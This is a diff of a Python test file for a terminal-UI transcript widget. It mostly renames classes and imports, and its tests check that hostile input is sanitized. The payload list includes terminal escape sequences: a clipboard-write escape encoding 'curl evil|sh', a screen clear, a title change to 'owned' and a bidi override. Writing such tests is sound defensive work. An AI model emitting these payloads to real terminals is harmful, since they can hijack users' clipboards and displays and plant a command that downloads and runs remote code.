@@ -4,10 +4,23 @@ import asyncio
 import subprocess
 import sys
 
-from transcript_world import RecordingDriver, World, quiet, seen, world
-
+from tests.widgets.transcript_app import (
+    RecordingDriver,
+    TranscriptApp,
+    run_transcript,
+    visible_lines,
+    wait_until_idle,
+)
 from tui.session.events import FileChange
-from tui.widgets.transcript.items import Action, Answer, Card, Notice, Prompt, Thinking, ToolLine
+from tui.widgets.transcript.items import (
+    AnswerItem,
+    CardAction,
+    CardItem,
+    NoticeItem,
+    PromptItem,
+    ThinkingItem,
+    ToolItem,
+)
 
 PAYLOADS = [
     "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
@@ -26,15 +39,15 @@ BAD = " ".join(PAYLOADS)
 def hostile_items():
     change = FileChange(path=BAD, added=1, diff=f"@@ -1 +1 @@\n-{BAD}\n+{BAD}\n")
     return [
-        Prompt("p", BAD),
-        Thinking("k", BAD, 10),
-        ToolLine("t1", BAD, BAD, "error", 10, False, BAD, BAD),
-        ToolLine("t2", "edit", BAD, "done", changes=(change,)),
-        Answer("a", f"# {BAD}\n\n{BAD} `{BAD}`\n\n```{BAD}\n{BAD}\n```\n"),
-        Answer("b", f"| {BAD} |\n| - |\n| {BAD} |\n"),
-        Answer("l", f"[{BAD}](https://e.org/\x1b]52;c;eA==\x07) <https://e.org/{chr(27)}[2J>"),
-        Notice("n", BAD),
-        Card("c", BAD, (BAD,), (Action("x", BAD, "x"),)),
+        PromptItem("p", BAD),
+        ThinkingItem("k", BAD, 10),
+        ToolItem("t1", BAD, BAD, "error", 10, False, BAD, BAD),
+        ToolItem("t2", "edit", BAD, "done", changes=(change,)),
+        AnswerItem("a", f"# {BAD}\n\n{BAD} `{BAD}`\n\n```{BAD}\n{BAD}\n```\n"),
+        AnswerItem("b", f"| {BAD} |\n| - |\n| {BAD} |\n"),
+        AnswerItem("l", f"[{BAD}](https://e.org/\x1b]52;c;eA==\x07) <https://e.org/{chr(27)}[2J>"),
+        NoticeItem("n", BAD),
+        CardItem("c", BAD, (BAD,), (CardAction("x", BAD, "x"),)),
     ]
 
 
@@ -68,20 +81,20 @@ async def test_nothing_a_terminal_would_obey_reaches_it():
         for character in BAD:
             transcript.feed("s", character)
             transcript.flush()
-        transcript.seal("s")
+        transcript.end_stream("s")
         transcript.find("owned")
 
-    sent = await sent_by(World(), act)
+    sent = await sent_by(TranscriptApp(), act)
     assert "gnp.exe" in sent
     for bad in ("]52;", "\x1b[2J", "\x9b", "\x1bc", "\x1bP", "\u202e", "]0;owned"):
         assert bad not in sent.replace("\x1b[2J\x1b[H", ""), repr(bad)
 
 
 async def test_markup_is_shown_as_it_was_written():
-    async with world(*hostile_items(), size=(120, 60)) as (app, transcript, pilot):
+    async with run_transcript(*hostile_items(), size=(120, 60)) as (app, transcript, pilot):
         transcript.fold_all()
-        await quiet(pilot)
-        assert sum("[@click=app.quit]" in line for line in seen(transcript)) > 8
+        await wait_until_idle(pilot)
+        assert sum("[@click=app.quit]" in line for line in visible_lines(transcript)) > 8
         for row in range(0, 60, 9):
             await pilot.click("Transcript", offset=(90, row))
         assert app.is_running
@@ -89,7 +102,7 @@ async def test_markup_is_shown_as_it_was_written():
 
 def test_importing_the_transcript_imports_no_reader_and_no_lexer():
     code = (
-        "import sys; import tui.widgets.transcript.view;"
+        "import sys; import tui.widgets.transcript.transcript_view;"
         "print([name for name in ('markdown_it', 'pygments', 'linkify_it', 'rich.markdown')"
         " if name in sys.modules])"
     )
@@ -107,17 +120,17 @@ def test_the_first_frame_does_not_wait_for_colours():
     code = (
         "import asyncio, sys\n"
         "from textual.app import App\n"
-        "from tui.widgets.transcript.items import Answer, Prompt\n"
-        "from tui.widgets.transcript.view import Transcript\n"
+        "from tui.widgets.transcript.items import AnswerItem, PromptItem\n"
+        "from tui.widgets.transcript.transcript_view import Transcript\n"
         "class Shell(App):\n"
         "    def compose(self): yield Transcript()\n"
         "    def on_mount(self):\n"
-        "        self.query_one(Transcript).load([Prompt('p', 'x')])\n"
+        "        self.query_one(Transcript).load([PromptItem('p', 'x')])\n"
         "async def main():\n"
         "    app = Shell()\n"
         "    async with app.run_test() as pilot:\n"
         "        first = 'pygments' in sys.modules\n"
-        "        app.query_one(Transcript).put(Answer('a', '```py\\nx = 1\\n```'))\n"
+        "        app.query_one(Transcript).put(AnswerItem('a', '```py\\nx = 1\\n```'))\n"
         "        for _ in range(500):\n"
         "            await asyncio.sleep(0.01)\n"
         "            strips = app.query_one(Transcript).render_lines(app.screen.region)\n"
